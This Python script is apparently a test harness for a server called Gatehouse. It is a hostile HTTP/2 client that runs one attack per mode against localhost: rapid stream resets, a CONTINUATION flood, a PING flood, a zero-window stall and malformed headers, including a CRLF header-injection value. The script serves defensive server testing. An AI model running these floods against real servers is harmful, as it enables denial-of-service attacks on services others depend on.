#!/usr/bin/python3
"""A hostile HTTP/2 client (python3-h2) for Gatehouse's tests: one attack per run, printing what the server did.

usage: h2_client.py PORT CA_FILE MODE
Modes: malformed, rapid_reset, continuation, ping_flood, zero_window, and slow_reader (not an attack: one that must be
served). Prints `key=value` lines; exits 0 when it ran.
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame

PORT, CA, MODE = int(sys.argv[1]), sys.argv[2], sys.argv[3]
HOST = "a.test"
GET = [(":method", "GET"), (":path", "/echo"), (":scheme", "https"), (":authority", HOST)]


def connect(settings=None):
    ctx = ssl.create_default_context(cafile=CA)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", PORT), timeout=10), server_hostname=HOST)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False,
        validate_inbound_headers=False))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def pump(sock, conn, until, seconds=10):
    """Reads events until `until(events_so_far)` or the connection ends; returns (events, closed)."""
    seen = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError, BrokenPipeError):
            return seen, True
        except socket.timeout:
            break
        if not data:
            return seen, True
        try:
            seen += conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return seen, True
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
                return seen, True
        if until(seen):
            break
    return seen, False


def status_of(events, stream):
    for e in events:
        if isinstance(e, h2.events.ResponseReceived) and e.stream_id == stream:
            return dict(e.headers).get(b":status", b"").decode()
    return None


def goaway(events):
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            name = e.error_code.name if hasattr(e.error_code, "name") else str(e.error_code)
            return f"{name} last_stream={e.last_stream_id} {e.additional_data}"
    return None


def ended(stream):
    return lambda evs: any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) and e.stream_id == stream for e in evs)


def malformed():
    sock, conn = connect()
    cases = [("connection", "keep-alive"), ("x-smuggle", "a\r\nx-evil: 1"), ("transfer-encoding", "chunked"),
             ("te", "gzip"), ("x-space", " padded")]
    stream = 1
    for name, value in cases:
        conn.send_headers(stream, GET + [(name, value)], end_stream=True)
        sock.sendall(conn.data_to_send())
        events, closed = pump(sock, conn, ended(stream))
        resets = [e for e in events if isinstance(e, h2.events.StreamReset) and e.stream_id == stream]
        print(f"{name}=" + (resets[0].error_code.name if resets else f"status {status_of(events, stream)}"))
        stream += 2
    conn.send_headers(stream, GET, end_stream=True)
    sock.sendall(conn.data_to_send())
    events, closed = pump(sock, conn, ended(stream))
    print(f"valid={status_of(events, stream)}")


def read_ready(sock, conn, seen):
    """Reads what has arrived without waiting; returns whether the connection ended."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
            seen += conn.receive_data(data)
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except (ConnectionResetError, ssl.SSLError, BrokenPipeError, h2.exceptions.ProtocolError):
        return True
    finally:
        sock.settimeout(10)


def rapid_reset():
    """Opens and resets streams as fast as it can, reading what comes meanwhile (as attack tools do): a server
    that closes on it may reset the connection with the flood unread, which drops what it had not sent yet."""
    sock, conn = connect()
    sent = 0
    closed = False
    seen = []
    for i in range(1000):
        stream = 1 + 2 * i
        try:
            conn.send_headers(stream, GET, end_stream=True)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
            sent += 1
        except Exception:
            closed = True
            break
        if read_ready(sock, conn, seen):
            closed = True
            break
    if closed:
        read_ready(sock, conn, seen)  # what arrived before the end is still there to read
    else:
        events, closed = pump(sock, conn, lambda evs: goaway(evs) is not None)
        seen += events
    print(f"sent={sent}")
    print(f"goaway={goaway(seen)}")
    print(f"closed={closed or goaway(seen) is not None}")


def continuation():
    sock, conn = connect()
    block = conn.encoder.encode(GET)
    first = HeadersFrame(1)
    first.data = block
    first.flags.add("END_STREAM")  # no END_HEADERS: CONTINUATION frames follow
    frames = [first.serialize()]
    for i in range(20000):
        c = ContinuationFrame(1)
        c.data = conn.encoder.encode([("x-flood-%d" % (i % 50), "v" * 8)])
        frames.append(c.serialize())
    sent = 0
    closed = False
    try:
        for f in frames:
            sock.sendall(f)
            sent += 1
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout):
        closed = True
    sock.settimeout(5)
    reply = b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                closed = True
                break
            reply += data
    except (ConnectionResetError, ssl.SSLError, BrokenPipeError):
        closed = True
    except socket.timeout:
        pass
    print(f"frames_sent={sent}")
    print(f"bytes_back={len(reply)}")
    print(f"closed={closed}")


def ping_flood():
    sock, conn = connect()
    start = time.monotonic()
    sent = 0
    closed = False
    batch = b"".join(b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + i.to_bytes(8, "big") for i in range(1000))
    try:
        for _ in range(2000):  # up to 2,000,000 PINGs, never reading: the server's PING ACKs pile up
            sock.sendall(batch)
            sent += 1000
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
        closed = True
    events, closed2 = pump(sock, conn, lambda evs: goaway(evs) is not None, seconds=5)
    print(f"pings_sent={sent}")
    print(f"closed={closed or closed2}")
    print(f"goaway={goaway(events)}")
    print(f"closed_after_ms={int((time.monotonic() - start) * 1000)}")


def zero_window():
    sock, conn = connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    conn.send_headers(1, [(":method", "GET"), (":path", "/bytes/200000"), (":scheme", "https"), (":authority", HOST)],
                      end_stream=True)
    sock.sendall(conn.data_to_send())
    start = time.monotonic()
    events, closed = pump(sock, conn, lambda evs: goaway(evs) is not None, seconds=20)
    print(f"status={status_of(events, 1)}")
    print(f"goaway={goaway(events)}")
    print(f"closed_after_ms={int((time.monotonic() - start) * 1000) if (closed or goaway(events)) else -1}")


def slow_reader():
    """Reads a 300,000-byte body through a 16 KiB window, opening it again only every 300 ms: slow, never stalled."""
    window = 16384
    sock, conn = connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    conn.send_headers(1, [(":method", "GET"), (":path", "/bytes/300000"), (":scheme", "https"), (":authority", HOST)],
                      end_stream=True)
    sock.sendall(conn.data_to_send())
    start = time.monotonic()
    received = 0
    status = None
    ended_ok = False
    terminated = None
    sock.settimeout(0.3)
    while time.monotonic() - start < 30 and not ended_ok and terminated is None:
        try:
            data = sock.recv(65536)
            if not data:
                terminated = "EOF"
                break
            for e in conn.receive_data(data):
                if isinstance(e, h2.events.ResponseReceived):
                    status = dict(e.headers).get(b":status", b"").decode()
                elif isinstance(e, h2.events.DataReceived):
                    received += len(e.data)
                    pending.append((e.stream_id, e.flow_controlled_length))
                elif isinstance(e, h2.events.StreamEnded):
                    ended_ok = True
                elif isinstance(e, h2.events.ConnectionTerminated):
                    terminated = e.error_code.name
        except socket.timeout:
            pass
        time.sleep(0.3)  # a slow reader: the window opens again only now
        while pending:
            stream, n = pending.pop()
            conn.acknowledge_received_data(n, stream)
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
    print(f"status={status}")
    print(f"received={received}")
    print(f"ended={ended_ok}")
    print(f"goaway={terminated}")
    print(f"took_ms={int((time.monotonic() - start) * 1000)}")


pending = []

{"malformed": malformed, "slow_reader": slow_reader, "rapid_reset": rapid_reset, "continuation": continuation, "ping_flood": ping_flood,
 "zero_window": zero_window}[MODE]()
